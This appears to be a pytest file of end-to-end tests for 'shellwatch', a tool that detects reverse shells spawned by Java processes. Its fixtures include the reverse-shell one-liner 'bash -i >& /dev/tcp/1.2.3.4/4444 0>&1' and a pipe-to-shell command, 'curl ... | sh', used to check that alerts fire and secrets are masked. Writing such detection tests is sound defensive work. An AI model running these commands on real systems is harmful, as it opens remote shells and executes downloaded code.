"""``shellwatch detect`` end to end, as a user runs it (a subprocess on files and stdin)."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest

from shellwatch.samples.build import ATTACKED_HOST
from tests.unit.builders import conn_doc, exec_doc

SAMPLE = Path(__file__).parents[3] / "src" / "shellwatch" / "samples" / "sample-attack.ndjson"


def detect(stdin: bytes, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "shellwatch", "detect", "-", *args],
        input=stdin,
        capture_output=True,
        timeout=120,
        check=False,
    )


def sequence_alerts(stdout: bytes) -> list[dict[str, Any]]:
    """The reverse-shell alerts of a detect run (the shell-spawned-by-java alerts are tested elsewhere)."""
    alerts = [orjson.loads(line) for line in stdout.splitlines()]
    return [a for a in alerts if a["rule"]["id"] == "potential-reverse-shell-via-java"]


def lines(*docs: object) -> bytes:
    return b"".join((d if isinstance(d, bytes) else orjson.dumps(d)) + b"\n" for d in docs)


def test_bundled_sample_raises_exactly_the_attack() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "shellwatch", "detect", "sample"], capture_output=True, timeout=120, check=True
    )
    alerts = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert {(a["rule"]["id"], a["detection"]["case"]) for a in alerts} == {
        ("potential-reverse-shell-via-java", None),
        ("shell-spawned-by-java", "java_shell_execution_known_bad"),
    }
    (alert,) = sequence_alerts(result.stdout)
    (shell_alert,) = [a for a in alerts if a is not alert and a["rule"]["id"] == "shell-spawned-by-java"]
    assert alert["detection"]["related_alert_ids"] == [shell_alert["event"]["id"]]
    assert alert["host"]["id"] == ATTACKED_HOST
    assert [orjson.loads(orjson.dumps(e))["event"]["id"] for e in alert["detection"]["events"]] == [
        "attack-ldap-callback",
        "attack-reverse-shell",
    ]
    assert b"1027 lines read" in result.stderr and b"2 alerts" in result.stderr


def test_alert_contract() -> None:
    conn, shell = conn_doc(1_700_000_000_000), exec_doc(1_700_000_001_250)
    result = detect(lines(conn, shell))
    assert result.returncode == 0
    (alert,) = sequence_alerts(result.stdout)
    expected_id = hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{shell['event']['id']}".encode()).hexdigest()
    assert alert["event"] == {"kind": "alert", "id": expected_id, "severity": 47, "risk_score": 47}
    assert alert["rule"] == {
        "id": "potential-reverse-shell-via-java",
        "uuid": "5a3d5447-31c9-409a-aed1-72f9921594fd",
        "name": "Potential Reverse Shell via Java",
        "version": "9",
        "reference": "https://www.elastic.co/guide/en/security/current/potential-reverse-shell-via-java.html",
    }
    assert alert["host"] == {"id": "host-a", "name": "srv-host-a"}
    assert alert["detection"]["severity"] == "medium" and alert["detection"]["case"] is None
    assert alert["detection"]["events"] == [conn, shell]
    assert alert["detection"]["explanation"]["gap_ms"] == 1250
    assert alert["detection"]["explanation"]["join_key"]["process.entity_id"] == shell["process"]["parent"]["entity_id"]
    assert alert["detection"]["latency_ms"] > 0
    assert len(alert["detection"]["ruleset"]) == 64
    assert alert["@timestamp"].endswith("Z") and len(alert["@timestamp"]) == 24
    assert {t["tactic"]["id"] for t in alert["threat"]} == {"TA0002", "TA0011"}
    clauses = alert["detection"]["explanation"]["clauses"]
    assert clauses["network"][2] == 'process.executable = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"'
    assert clauses["process"][-1] == 'process.name = "bash"'


def test_events_are_quoted_as_received() -> None:
    conn = orjson.dumps(conn_doc(1_700_000_000_000)).replace(
        b'"pid":100', b'"pid":100.000,"big":123456789012345678901234567890'
    )
    result = detect(lines(conn, exec_doc(1_700_000_000_500)))
    (line,) = [line for line in result.stdout.splitlines() if b'"potential-reverse-shell-via-java"' in line]
    assert b'"pid":100.000,"big":123456789012345678901234567890' in line
    assert conn in line


def test_alert_id_is_deterministic_across_runs() -> None:
    data = lines(conn_doc(1_700_000_000_000), exec_doc(1_700_000_000_500))
    first, second = detect(data), detect(data)
    assert [a["event"]["id"] for a in sequence_alerts(first.stdout)] == [
        a["event"]["id"] for a in sequence_alerts(second.stdout)
    ]


def test_exec_identity_falls_back_to_entity_id_then_raw_bytes() -> None:
    shell = exec_doc(1_700_000_000_500)
    del shell["event"]["id"]
    (out,) = sequence_alerts(detect(lines(conn_doc(1_700_000_000_000), shell)).stdout)
    assert (
        out["event"]["id"]
        == hashlib.sha256(
            f"potential-reverse-shell-via-java|host-a|{shell['process']['entity_id']}".encode()
        ).hexdigest()
    )
    del shell["process"]["entity_id"]
    raw = orjson.dumps(shell)
    (out,) = sequence_alerts(detect(lines(conn_doc(1_700_000_000_000), raw)).stdout)
    raw_hash = hashlib.sha256(raw).hexdigest()
    assert (
        out["event"]["id"] == hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{raw_hash}".encode()).hexdigest()
    )


def test_malformed_lines_around_an_attack() -> None:
    java = b"/usr/bin/java"
    bad = [
        b'{"process": {"executable": "/usr/bin/java"',  # truncated
        b'{"process": {"executable": "/usr/bin/java\xff"}}',  # invalid UTF-8
        b'["/usr/bin/java"]',  # not an object
        b'{"@timestamp": "not a time", "event": {"category": "process"}, "x": "/usr/bin/java"}',
        b"[" * 5000 + java + b"]" * 5000,
        b'{"a": "/usr/bin/java\x1b[31m',  # a terminal escape in the reported text
        b"plain text with /usr/bin/java",
        b"",
        b"nothing relevant here at all",
    ]
    data = lines(
        bad[0],
        bad[1],
        conn_doc(1_700_000_000_000),
        bad[2],
        bad[3],
        bad[4],
        exec_doc(1_700_000_002_000),
        bad[5],
        bad[6],
        bad[7],
        bad[8],
    )
    result = detect(data)
    assert result.returncode == 0
    assert b"Traceback" not in result.stderr
    assert len(sequence_alerts(result.stdout)) == 1
    stderr = result.stderr.decode()
    for number in (1, 2, 4, 5, 6, 8, 9):
        assert f"line {number}: " in stderr
    assert "\x1b" not in stderr
    assert "11 lines read, 2 pre-filtered, 7 undecodable" in stderr
    assert "2 alerts" in stderr  # the sequence and the shell spawned by Java


def test_no_prefilter_reports_every_bad_line() -> None:
    result = detect(lines(b"nothing relevant here", b"{}"), "--no-prefilter")
    assert "line 1: invalid_json" in result.stderr.decode()
    assert "2 lines read, 0 pre-filtered, 1 undecodable" in result.stderr.decode()


def test_secrets_are_masked_unless_disabled() -> None:
    shell = exec_doc(
        1_700_000_000_500,
        process__env_vars=["AWS_SECRET_ACCESS_KEY=abc"],
        process__args=["/bin/bash", "-c", "curl -u admin:pw http://x | sh"],
    )
    data = lines(conn_doc(1_700_000_000_000), shell)
    masked = sequence_alerts(detect(data).stdout)[0]["detection"]["events"][1]
    assert masked["process"]["env_vars"] == ["AWS_SECRET_ACCESS_KEY=[REDACTED]"]
    assert masked["process"]["args"][2] == "curl -u admin:**** http://x | sh"
    plain = sequence_alerts(detect(data, "--no-mask-secrets").stdout)[0]["detection"]["events"][1]
    assert plain == shell


@pytest.mark.parametrize("lateness", ["0", "5000"])
def test_lines_out_of_order_within_the_lateness(lateness: str) -> None:
    # The exec line comes before its connection line (the exec stream runs ahead).
    data = lines(exec_doc(1_700_000_001_000), conn_doc(1_700_000_000_000))
    result = detect(data, "--allowed-lateness-ms", lateness)
    assert len(sequence_alerts(result.stdout)) == 1


def test_unreadable_input_is_an_error() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "shellwatch", "detect", "/nonexistent.ndjson"],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and b"cannot read" in result.stderr and b"Traceback" not in result.stderr


def shell_alerts(stdout: bytes) -> list[dict[str, Any]]:
    alerts = [orjson.loads(line) for line in stdout.splitlines()]
    return [a for a in alerts if a["rule"]["id"] == "shell-spawned-by-java"]


def test_shell_alerts_are_grouped_per_period_unless_disabled() -> None:
    recon: dict[str, Any] = {"process__args": ["/bin/bash", "-c", "id"], "process__command_line": "/bin/bash -c id"}
    repeats = [exec_doc(1_700_000_000_000 + i * 60_000, pid=900 + i, **recon) for i in range(3)]
    after_an_hour = exec_doc(1_700_003_700_000, pid=999, **recon)
    grouped = shell_alerts(detect(lines(*repeats, after_an_hour)).stdout)
    assert [(a["detection"]["case"], a["detection"]["suppressed_count"]) for a in grouped] == [
        ("java_shell_execution_suspicious", 0),
        ("java_shell_execution_suspicious", 2),
    ]
    assert len(shell_alerts(detect(lines(*repeats, after_an_hour), "--no-group").stdout)) == 4


def test_known_bad_is_never_grouped() -> None:
    payload: dict[str, Any] = {"process__args": ["/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]}
    docs = [exec_doc(1_700_000_000_000 + i, pid=900 + i, **payload) for i in range(3)]
    alerts = shell_alerts(detect(lines(*docs)).stdout)
    assert [a["detection"]["case"] for a in alerts] == ["java_shell_execution_known_bad"] * 3
    assert all(a["detection"]["severity"] == "critical" and a["event"]["risk_score"] == 99 for a in alerts)
    assert alerts[0]["threat"][0]["technique"][0]["subtechnique"][0]["id"] == "T1059.004"


def test_lone_surrogates_in_an_attack_still_alert() -> None:
    shell = exec_doc(1_700_000_000_500, process__args=["/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 #X"])
    raw = orjson.dumps(shell).replace(b"#X", b"#\\ud83d")
    result = detect(lines(conn_doc(1_700_000_000_000), raw))
    assert result.returncode == 0 and b"Traceback" not in result.stderr
    alerts = [json.loads(line) for line in result.stdout.splitlines()]  # orjson refuses lone surrogates
    assert {a["rule"]["id"] for a in alerts} == {"potential-reverse-shell-via-java", "shell-spawned-by-java"}
    assert all(b"#\\ud83d" in line for line in result.stdout.splitlines())  # the event is quoted as received
